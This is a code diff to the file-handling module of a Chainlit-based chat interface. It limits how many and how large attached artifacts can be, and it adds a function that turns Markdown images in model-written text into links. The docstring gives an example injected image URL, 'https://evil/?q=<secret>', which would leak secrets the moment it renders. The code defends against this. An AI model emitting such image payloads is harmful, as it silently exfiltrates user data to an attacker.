@@ -21,6 +21,9 @@ logger = logging.getLogger("weaver.ui.files")
 IMAGE_SUFFIXES = frozenset({".png", ".jpg", ".jpeg", ".gif", ".webp", ".svg", ".bmp"})
 MAX_TABLE_ROWS = 20
 MAX_CELL_CHARS = 80
+# Chainlit reads every attached file whole into memory, so a round attaches a bounded number.
+MAX_ARTIFACTS_SHOWN = 20
+MAX_ARTIFACT_BYTES = 25 * 1000 * 1000
 
 
 def uploads_from_elements(elements: Iterable[Any] | None) -> list[dict[str, str]]:
@@ -84,6 +87,107 @@ def parse_artifacts(payload: str, root: str | Path) -> list[Artifact]:
         is_image = real.suffix.lower() in IMAGE_SUFFIXES and declared in ("", "image", "chart", "file")
         artifacts.append(Artifact(name=str(item.get("name") or real.name), path=real, kind="image" if is_image else "file"))
     return artifacts
+
+
+@dataclass
+class ArtifactSelection:
+    """Which artifacts are attached to a message, and sentences about the ones that are not."""
+
+    shown: list[Artifact]
+    notes: list[str]
+
+
+def select_artifacts(
+    artifacts: Iterable[Artifact], max_count: int = MAX_ARTIFACTS_SHOWN, max_bytes: int = MAX_ARTIFACT_BYTES
+) -> ArtifactSelection:
+    """Keep at most ``max_count`` artifacts of at most ``max_bytes`` each; name the others in notes."""
+    shown: list[Artifact] = []
+    too_big: list[str] = []
+    over_count: list[str] = []
+    seen: set[Path] = set()
+    for artifact in artifacts:
+        if artifact.path in seen:
+            continue
+        seen.add(artifact.path)
+        try:
+            size = artifact.path.stat().st_size
+        except OSError:
+            continue  # deleted since the round reported it
+        if size > max_bytes:
+            too_big.append(f"`{_code_text(artifact.name)}` ({size / 1e6:.0f} MB)")
+        elif len(shown) >= max_count:
+            over_count.append(f"`{_code_text(artifact.name)}`")
+        else:
+            shown.append(artifact)
+    notes: list[str] = []
+    if too_big:
+        notes.append(
+            f"Not attached because each is over {max_bytes / 1e6:.0f} MB: {', '.join(too_big)}; "
+            "they are in the session's working folder."
+        )
+    if over_count:
+        notes.append(
+            f"Only the first {max_count} files are attached; {len(over_count)} more are in the session's "
+            f"working folder: {', '.join(over_count)}."
+        )
+    return ArtifactSelection(shown, notes)
+
+
+def _code_text(text: str) -> str:
+    """Text safe inside a single-backtick code span (a name cannot close it or break the line)."""
+    return text.replace("`", "'").replace("\r", " ").replace("\n", " ")
+
+
+# A fence opens at most 3 spaces in; a backtick fence's info string has no backtick (CommonMark).
+_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}(?=[^`]*$)|~{3,})")
+# Code spans on one line only, never after a backslash: when unsure, text counts as prose and is
+# neutralised, which at worst changes how a code span looks, never lets an image through.
+_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")
+_IMAGE_OPEN = re.compile(r"!\[")
+
+
+def neutralise_images(text: str) -> str:
+    """Turn Markdown image syntax (``![alt](url)``) into link text, outside code blocks and spans.
+
+    Model-written text is rendered as Markdown, and the browser fetches every image URL at once:
+    an injected ``![x](https://evil/?q=<secret>)`` would leak data without a click. A link needs a
+    click, so ``![alt](url)`` becomes ``[image: alt](url)``. Fenced code and code spans are kept
+    byte for byte (they render as text anyway); an unclosed fence runs to the end, as in Markdown.
+    Anything this scanner is unsure of is treated as prose, so mistakes err on the safe side.
+    """
+    if "![" not in text:
+        return text
+    out: list[str] = []
+    prose: list[str] = []
+    fence_mark: str | None = None
+    for line in text.splitlines(keepends=True):
+        match = _FENCE_OPEN.match(line)
+        if fence_mark is None:
+            if match:
+                out.append(_neutralise_prose("".join(prose)))
+                prose = []
+                fence_mark = match.group(1)
+                out.append(line)
+            else:
+                prose.append(line)
+            continue
+        out.append(line)
+        if match and match.group(1)[0] == fence_mark[0] and len(match.group(1)) >= len(fence_mark) and not line.strip().strip(fence_mark[0]):
+            fence_mark = None
+    out.append(_neutralise_prose("".join(prose)))
+    return "".join(out)
+
+
+def _neutralise_prose(text: str) -> str:
+    """Neutralise images in text without fences, leaving inline code spans alone."""
+    parts: list[str] = []
+    last = 0
+    for span in _CODE_SPAN.finditer(text):
+        parts.append(_IMAGE_OPEN.sub("[image: ", text[last : span.start()]))
+        parts.append(span.group(0))
+        last = span.end()
+    parts.append(_IMAGE_OPEN.sub("[image: ", text[last:]))
+    return "".join(parts)
 
 
 def fence(text: str, language: str = "") -> str:
